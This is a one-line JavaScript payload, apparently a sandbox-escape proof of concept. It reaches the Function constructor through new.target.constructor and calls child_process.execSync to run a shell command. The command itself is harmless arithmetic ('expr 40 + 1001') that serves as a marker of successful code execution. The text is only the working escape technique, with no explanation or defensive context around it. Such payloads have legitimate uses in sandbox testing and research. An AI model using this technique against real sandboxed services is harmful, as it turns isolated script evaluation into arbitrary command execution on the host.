function A(){ return new.target.constructor('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')(); } new A();
